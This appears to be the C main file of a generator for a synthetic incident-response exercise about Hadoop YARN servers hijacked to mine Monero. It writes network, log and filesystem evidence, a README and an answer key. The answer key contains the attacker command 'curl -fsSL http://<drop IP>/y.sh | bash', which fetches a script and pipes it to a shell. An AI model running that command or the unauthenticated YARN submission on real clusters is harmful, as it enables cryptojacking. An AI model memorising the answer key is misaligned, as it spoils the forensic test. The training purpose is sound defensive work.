/* SPDX-License-Identifier: Apache-2.0 */
/*
 * main.c - generator of the "Hadoop YARN to Monero miner (cloud VMs)" story (DESIGN.md
 * section 1, fifth story): a packet capture on the YARN master, a filesystem timeline of
 * each server (mac-robber live on the master, TSK fls from a volume snapshot of the worker),
 * their syslog/auth.log and Hadoop logs, and the collected files (crontab, xmrig config,
 * container launch script, wiped shell history); plus README.txt, attack-notes.txt and
 * expected.json. Usage: yarn-miner OUTDIR [--scale N] [--seed S]; same arguments, same bytes.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "args.h"
#include "notes.h"
#include "out.h"
#include "rng.h"
#include "timefmt.h"
#include "ym.h"

int64_t ym_at(const struct ym_world *yw, int h, int m, int s)
{
    return yw->day0 + (int64_t)h * 3600 + m * 60 + s;
}

char *ym_app(char *o, size_t n, const struct ym_world *yw, uint32_t seq)
{
    snprintf(o, n, "application_%lld_%04u", (long long)yw->cluster_ts, seq);
    return o;
}

char *ym_container(char *o, size_t n, const struct ym_world *yw, uint32_t seq, int c)
{
    snprintf(o, n, "container_%lld_%04u_01_%06d", (long long)yw->cluster_ts, seq, c);
    return o;
}

uint32_t ym_etl_seq(const struct ym_world *yw, int h)
{
    return yw->first_seq + (uint32_t)h + (h >= 3 ? 2 : 0);
}

int ym_pid(const struct ym_world *yw, int64_t t)
{
    return 3100 + (int)((t - yw->day0) / 3);
}

void ym_note(int64_t t, const char *what, const char *where)
{
    note_at(t * 1000000000, where, "%s", what);
}

static void write_expected(const struct ym_world *yw)
{
    struct sb b = {0};
    char a0[64], a1[64], c0[64], c1[64];
    ym_app(a0, sizeof a0, yw, yw->host[YM_WORKER].app_seq);
    ym_app(a1, sizeof a1, yw, yw->host[YM_MASTER].app_seq);
    ym_container(c0, sizeof c0, yw, yw->host[YM_WORKER].app_seq, 1);
    ym_container(c1, sizeof c1, yw, yw->host[YM_MASTER].app_seq, 1);
    sb_s(&b, "{\n  \"story\": \"" YM_STORY "\",\n  \"title\": \"" YM_TITLE "\",\n"
         "  \"attacker_ips\": [\"" YM_SUBMIT_IP "\", \"" YM_DROP_IP "\", \"" YM_POOL_IP "\"],\n"
         "  \"compromised\": {\n    \"identities\": [\"yarn\", \"dr.who\"],\n"
         "    \"workloads\": [\"hadoop-master\", \"hadoop-worker-1\", \"" YM_MINER "\"]\n"
         "  },\n  \"questions\": {\n");
    sb_f(&b, "    \"initial_access\": {\"techniques\": [\"T1190\", \"T1059.004\", \"T1105\"],\n"
         "      \"artifacts\": [\"/ws/v1/cluster/apps\", \"" YM_SUBMIT_IP "\", \"%s\", \"%s\", "
         "\"curl -fsSL http://" YM_DROP_IP "/y.sh | bash\"]},\n", a0, a1);
    sb_f(&b, "    \"spread\": {\"techniques\": [\"T1072\"],\n"
         "      \"artifacts\": [\"hadoop-master\", \"hadoop-worker-1\", \"%s\", \"%s\"]},\n",
         c0, c1);
    sb_s(&b, "    \"persistence\": {\"techniques\": [\"T1053.003\"],\n"
         "      \"artifacts\": [\"/var/spool/cron/crontabs/yarn\", \"" YM_CRON_LINE "\"]},\n");
    sb_f(&b, "    \"impact\": {\"techniques\": [\"T1496\"],\n"
         "      \"artifacts\": [\"" YM_POOL_URL "\", \"%s\", \"" YM_DROP_DIR "/" YM_MINER "\", \""
         YM_DROP_DIR "/config.json\"]},\n", yw->wallet);
    sb_s(&b, "    \"prevention\": {\"keywords\": [\"authentication\", \"8088\", \"kerberos\", "
         "\"egress\", \"crontab\"]}\n  },\n  \"sources\": {\n"
         "    \"" YM_PCAP "\": \"pcap\",\n"
         "    \"hosts/*/bodyfile.txt\": \"bodyfile\",\n"
         "    \"hosts/*/fs/var/log/syslog\": \"syslog\",\n"
         "    \"hosts/*/fs/var/log/auth.log\": \"auth-log\",\n"
         "    \"hosts/*/fs/var/spool/cron/crontabs/yarn\": \"crontab\",\n"
         "    \"hosts/*/fs" YM_DROP_DIR "/config.json\": \"xmrig-config\",\n"
         "    \"hosts/*/fs" YM_NM_LOCAL "/usercache/dr.who/appcache/*/*/launch_container.sh\": "
         "\"yarn-launch-script\",\n"
         "    \"hosts/hadoop-master/fs/tmp/hadoop-yarn/yarn/system/rmstore/FSRMStateRoot/"
         "RMAppRoot/*/*\": \"yarn-rmstore\",\n"
         "    \"hosts/*/fs" YM_YARN_HOME "/.bash_history\": \"shell-history\",\n"
         "    \"hosts/*/fs/home/alice/.bash_history\": \"shell-history\",\n"
         "    \"hosts/*/fs" YM_HADOOP "/logs/*.log\": \"app-log\"\n  }\n}\n");
    out_meta_file("expected.json", b.p, b.n);
    free(b.p);
}

static void write_readme(const struct ym_world *yw)
{
    struct sb b = {0};
    char a0[64], a1[64];
    ym_app(a0, sizeof a0, yw, yw->host[YM_WORKER].app_seq);
    ym_app(a1, sizeof a1, yw, yw->host[YM_MASTER].app_seq);
    sb_s(&b, "Story: " YM_TITLE " (" YM_STORY ")\n\n"
         "A cloud provider warned of outbound attacks from two Hadoop VMs; both ran a process\n"
         "at ~700% CPU as user yarn whose executable had been deleted. What was collected:\n\n"
         "  " YM_PCAP "\n"
         "      VPC traffic mirror of hadoop-master (10.0.5.10), the whole day of 2026-09-08\n"
         "      UTC, libpcap, Ethernet, filter 'not port 22' (the responders' own SSH)\n"
         "  hosts/hadoop-master/bodyfile.txt\n"
         "      mac-robber 1.02 run live at 10:02 UTC on /etc /home /opt /root /tmp /usr /var\n"
         "      (three header lines, no inode numbers, no crtime, modes without type prefix)\n"
         "  hosts/hadoop-worker-1/bodyfile.txt\n"
         "      TSK `fls -r -m /` of a snapshot of the worker's root volume taken at 10:31 UTC\n"
         "      (inodes, ext4 crtime, deleted names marked '(deleted)')\n"
         "  hosts/<host>/fs/...      files copied from each server: /var/log/syslog,\n"
         "      /var/log/auth.log, the Hadoop logs under " YM_HADOOP "/logs, the yarn\n"
         "      user's crontab, the miner's config.json, the NodeManager's container\n"
         "      launch scripts, the ResourceManager state store (master), and the shell\n"
         "      histories (yarn's was emptied by the attacker)\n\n"
         "The world: hadoop-master 10.0.5.10 (ResourceManager :8088 without authentication,\n"
         "NameNode, NodeManager), hadoop-worker-1 10.0.5.11 (NodeManager, DataNode);\n"
         "monitoring " YM_MONITOR_IP " polls /ws/v1/cluster/metrics, Airflow " YM_AIRFLOW_IP
         " submits\nthe hourly ETL job as user etl through the same REST API, admin alice "
         "works from " YM_ADMIN_IP ".\n");
    sb_f(&b, "Attacker: " YM_SUBMIT_IP " submits %s and %s as dr.who,\n"
         YM_DROP_IP " serves y.sh and the miner, the pool is " YM_POOL_URL "\n(" YM_POOL_IP
         ").\n\n", a0, a1);
    sb_f(&b, "Volume at --scale %d: %llu packets (%llu bytes of frames), %llu bodyfile lines, "
         "%llu log lines.\n\nattack-notes.txt lists each step with its time and the file and "
         "line (or frame) that\nrecords it; expected.json is the answer key.\n", yw->scale,
         (unsigned long long)yw->n_packets, (unsigned long long)yw->n_bytes,
         (unsigned long long)yw->n_body, (unsigned long long)yw->n_log);
    out_meta_file("README.txt", b.p, b.n);
    free(b.p);
}

int main(int argc, char **argv)
{
    static const char B58[] = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    struct ym_world yw;
    uint64_t seed = 1;
    memset(&yw, 0, sizeof yw);
    args_parse(argc, argv, "yarn-miner", &yw.scale, &seed);
    rng_seed(seed);
    yw.day0 = tf_epoch(YM_Y, YM_MO, YM_D, 0, 0, 0);
    yw.cluster_ts = tf_epoch(2026, 9, 4, 12, 52, 18) * 1000 + 611;
    yw.first_seq = 31;
    yw.wallet[0] = '4';
    rng_chars(yw.wallet + 1, 94, B58);
    yw.submit = ym_at(&yw, 2, 13, 38);
    yw.kill = ym_at(&yw, 9, 40, 12);

    struct ym_host *w = &yw.host[YM_WORKER], *m = &yw.host[YM_MASTER];
    w->name = "hadoop-worker-1";
    w->ip = "10.0.5.11";
    w->app_seq = ym_etl_seq(&yw, 2) + 1;
    w->launch = yw.submit + 3;
    w->miner_start = w->launch + 4;
    w->miner_pid = ym_pid(&yw, w->miner_start) + 1;
    w->collected = ym_at(&yw, 10, 31, 40);
    m->name = "hadoop-master";
    m->ip = "10.0.5.10";
    m->app_seq = w->app_seq + 1;
    m->launch = yw.submit + 9;
    m->miner_start = m->launch + 4;
    m->miner_pid = ym_pid(&yw, m->miner_start) + 1;
    m->restart = ym_at(&yw, 9, 45, 1);
    m->miner_pid2 = ym_pid(&yw, m->restart + 4) + 1;
    m->collected = ym_at(&yw, 10, 2, 17);

    ym_net(&yw);
    ym_logs(&yw);
    ym_fs(&yw);
    notes_write("attack-notes.txt", "Attack steps of " YM_STORY " (times UTC, 2026-09-08). "
                "Frames are numbered from 1 as tshark\nnumbers them, lines from 1, offsets from "
                "0; paths are relative to this folder.\n\n");
    write_readme(&yw);
    write_expected(&yw);
    return 0;
}
